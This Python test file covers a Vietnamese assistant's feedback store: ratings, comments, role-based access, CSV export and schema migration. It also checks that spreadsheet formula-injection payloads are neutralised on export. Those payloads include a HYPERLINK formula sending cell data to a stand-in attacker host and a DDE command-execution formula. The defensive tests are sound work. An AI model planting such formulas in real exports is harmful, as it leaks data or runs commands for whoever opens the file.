"""Feedback store: ratings and comments with question, answer, citations and the user; CSV export. In the data
folder's SQLite file and in PostgreSQL (the `database` fixture runs a test on both)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant import Settings
from assistant.access.roles import PermissionDenied
from assistant.records.csv_safe import FORMULA_START, neutralise
from assistant.records.feedback import CSV_COLUMNS, FeedbackStore
from tests.roles import ADMIN, EVALUATOR, READER, TRAINER

CITATIONS = [
    {
        "n": 1,
        "doc": "kh32",
        "label": "KH 32-KH/BCSĐ, Nhiệm vụ thứ tư",
        "text": "Đoạn.",
        "quotes": ["Câu trích."],
    }
]


@pytest.fixture
def store(database: str | None) -> FeedbackStore:
    """The configured feedback: the data folder's file, or the test's PostgreSQL database."""
    return FeedbackStore.of(Settings())


def test_rating_then_comment_update_one_row(store: FeedbackStore) -> None:
    store.record(READER, "conv", "m1", "Hỏi gì?", "Trả lời [1]", CITATIONS, rating=1)
    store.record(READER, "conv", "m1", "Hỏi gì?", "Trả lời [1]", CITATIONS, rating=1, comment="  Rõ ràng ")
    store.record(READER, "conv", "m2", "Hỏi khác?", "Không có.", [], rating=0)
    rows = store.rows(EVALUATOR)
    assert [(r["message"], r["rating"], r["comment"]) for r in rows] == [("m1", 1, "Rõ ràng"), ("m2", 0, "")]
    assert rows[0]["citations"][0]["quotes"] == ["Câu trích."]
    assert rows[0]["question"] == "Hỏi gì?" and rows[0]["answer"] == "Trả lời [1]"
    assert {r["user"] for r in rows} == {READER.name}


def test_changed_rating_keeps_the_comment(store: FeedbackStore) -> None:
    store.record(READER, "c", "m", "q", "a", [], rating=1, comment="tốt")
    store.record(READER, "c", "m", "q", "a", [], rating=0)
    assert [(r["rating"], r["comment"]) for r in store.rows(ADMIN)] == [(0, "tốt")]


def test_another_user_cannot_overwrite_a_row(store: FeedbackStore) -> None:
    store.record(READER, "c", "m", "q", "a", [], rating=1, comment="tốt")
    store.record(TRAINER, "c", "m", "q", "a", [], rating=0, comment="xấu")
    assert [(r["user"], r["rating"], r["comment"]) for r in store.rows(ADMIN)] == [(READER.name, 1, "tốt")]


def test_only_evaluators_and_admins_read_and_export(store: FeedbackStore) -> None:
    store.record(READER, "c", "m", "q", "a", [], rating=1)
    for user in (READER, TRAINER):
        with pytest.raises(PermissionDenied, match="không có quyền xem và tải góp ý"):
            store.rows(user)
        with pytest.raises(PermissionDenied):
            store.to_csv(user)
    assert len(store.rows(EVALUATOR)) == len(store.rows(ADMIN)) == 1


def test_persists_across_instances(store: FeedbackStore) -> None:
    store.record(READER, "c", "m", "q", "a", CITATIONS, rating=1)
    assert len(FeedbackStore.of(Settings()).rows(ADMIN)) == 1


def test_csv_export_for_evaluators(store: FeedbackStore) -> None:
    store.record(
        READER, "conv", "m1", "Nhiệm vụ thứ tư?", "Thứ tư, … [1]", CITATIONS, rating=0, comment='Thiếu, "ý"'
    )
    rows = list(csv.reader(io.StringIO(store.to_csv(EVALUATOR))))
    assert rows[0] == CSV_COLUMNS
    record = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert record["danh_gia"] == "👎"
    assert record["gop_y"] == 'Thiếu, "ý"'
    assert record["cau_hoi"] == "Nhiệm vụ thứ tư?"
    assert record["nguoi_dung"] == READER.name
    assert record["trich_dan"] == "[1] KH 32-KH/BCSĐ, Nhiệm vụ thứ tư: Câu trích."


FORMULAS = [
    '=HYPERLINK("http://ke-tan-cong.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def test_formula_injection_in_a_comment_is_exported_as_text(store: FeedbackStore) -> None:
    """The attack: a 👎 comment (or question) that a spreadsheet would run as a formula."""
    for i, formula in enumerate(FORMULAS):
        store.record(READER, "c", f"m{i}", formula, "=1+1", [], rating=0, comment=formula)
    rows = list(csv.reader(io.StringIO(store.to_csv(EVALUATOR))))[1:]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
    by_message = {r[3]: dict(zip(CSV_COLUMNS, r, strict=True)) for r in rows}
    assert by_message["m0"]["gop_y"] == "'" + FORMULAS[0]  # kept, readable, inert
    assert by_message["m0"]["tra_loi"] == "'=1+1"


def test_neutralise_leaves_ordinary_text_and_numbers_alone() -> None:
    assert neutralise("Nhiệm vụ thứ tư") == "Nhiệm vụ thứ tư"
    assert neutralise("KH 32-KH/BCSĐ") == "KH 32-KH/BCSĐ"
    assert neutralise(-5) == -5
    assert neutralise("") == ""


def test_an_old_file_gets_a_user_column(tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "feedback.sqlite"
    with sqlite3.connect(path) as db:
        db.execute(
            "CREATE TABLE feedback (conversation TEXT NOT NULL, message TEXT NOT NULL, rating INTEGER, "
            "comment TEXT NOT NULL DEFAULT '', question TEXT NOT NULL, answer TEXT NOT NULL, "
            "citations TEXT NOT NULL, updated REAL NOT NULL, PRIMARY KEY (conversation, message))"
        )
        db.execute("INSERT INTO feedback VALUES ('c', 'm', 1, '', 'q', 'a', '[]', 0)")
    store = FeedbackStore(path)
    store.record(READER, "c", "m2", "q", "a", [], rating=0)
    assert [(r["message"], r["user"]) for r in store.rows(ADMIN)] == [("m", ""), ("m2", READER.name)]


@given(cells=st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_no_exported_cell_ever_starts_a_formula(cells: list[str]) -> None:
    from assistant.records.csv_safe import to_csv

    (row,) = list(csv.reader(io.StringIO(to_csv(["a"] * len(cells), [cells]), newline="")))[1:]
    for sent, cell in zip(cells, row, strict=True):
        assert not cell.lstrip(" \u00a0").startswith(FORMULA_START)
        assert cell in (sent, "'" + sent)  # the text itself is kept


@pytest.mark.parametrize("cell", ['   =HYPERLINK("http://x")', " =1+1 sp.txt", "\u00a0@SUM(A1)", "  -2+3"])
def test_a_formula_after_leading_spaces_is_exported_as_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert neutralise("  bình thường") == "  bình thường"
